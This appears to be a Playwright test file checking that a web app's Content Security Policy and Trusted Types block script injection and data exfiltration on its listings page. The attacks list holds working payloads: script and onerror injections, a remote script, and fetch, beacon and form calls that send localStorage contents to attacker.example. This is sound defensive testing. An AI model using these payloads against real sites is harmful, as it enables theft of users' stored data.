import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures/test';

/** The directives that block what `attack` tries in the page. */
async function listViolations(page: Page, attack: () => void): Promise<string[]> {
  await page.evaluate(() => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      seen.push(effectiveDirective),
    );
    (window as unknown as { violations: string[] }).violations = seen;
  });
  // In a timer: code that the test evaluates is exempt from some directives. A refusal also throws.
  await page.evaluate(
    `new Promise((resolve) => setTimeout(() => { try { (${String(attack)})(); } catch {} resolve(); }))`,
  );
  const read = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
  await expect.poll(async () => (await read()).length).toBeGreaterThan(0);
  return read();
}

/** Each would write a mark; none appears while the policy works. */
const attacks: readonly { description: string; directive: string; attack: () => void }[] = [
  {
    description: 'a script element with text of its own',
    directive: 'require-trusted-types-for',
    attack: () => {
      const script = document.createElement('script');
      script.textContent = 'window.stolen = { ...localStorage }';
      document.body.append(script);
    },
  },
  {
    description: 'text that becomes markup',
    directive: 'require-trusted-types-for',
    attack: () => {
      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.stolen = 1">');
    },
  },
  {
    description: 'an event handler in markup that was parsed elsewhere',
    directive: 'script-src-attr',
    attack: () => {
      const parsed = new DOMParser().parseFromString(
        '<img src="data:," onerror="window.stolen = 1">',
        'text/html',
      );
      document.body.append(...parsed.body.children);
    },
  },
  {
    description: 'the address of a script of another origin',
    directive: 'require-trusted-types-for',
    attack: () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/steal.js';
      document.body.append(script);
    },
  },
  {
    description: 'a policy of its own for trusted types',
    directive: 'trusted-types',
    attack: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy('attacker', { createHTML: String });
    },
  },
  {
    description: 'text that is evaluated',
    directive: 'require-trusted-types-for',
    attack: () => {
      (window as unknown as { stolen: unknown }).stolen = new Function('return { ...localStorage }')();
    },
  },
  {
    description: 'a call to another origin',
    directive: 'connect-src',
    attack: () => {
      void fetch('https://attacker.example/', { method: 'POST', body: JSON.stringify(localStorage) }).catch(
        () => undefined,
      );
    },
  },
  {
    description: 'a beacon to another origin',
    directive: 'connect-src',
    attack: () => {
      navigator.sendBeacon('https://attacker.example/', JSON.stringify(localStorage));
    },
  },
  {
    description: 'a form that is sent',
    directive: 'form-action',
    attack: () => {
      const form = document.createElement('form');
      form.action = 'https://attacker.example/';
      document.body.append(form);
      form.submit();
    },
  },
];

test('the policy guards local storage: no foreign script runs, and nothing is sent elsewhere', async ({
  page,
  supplier,
  consoleErrors,
}) => {
  // The browser reports each refusal to the console.
  consoleErrors.allow(
    /Content Security Policy|Content Security policy|Fetch API cannot load|Refused to|This document requires 'Trusted|Function constructor/,
  );
  expect(supplier.userId).not.toBe('');
  const sent: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('attacker.example')) sent.push(request.url());
  });
  page.on('requestfailed', (request) => {
    // Chromium reports a refused request as failed before it is sent.
    if (request.failure()?.errorText === 'csp') sent.splice(sent.indexOf(request.url()), 1);
  });
  await page.goto('/listings');
  await expect(page.getByRole('heading', { level: 1, name: 'My Listings' })).toBeVisible();
  for (const { description, directive, attack } of attacks)
    await test.step(description, async () => {
      expect(await listViolations(page, attack)).toContain(directive);
    });
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
  expect(sent).toEqual([]);
});
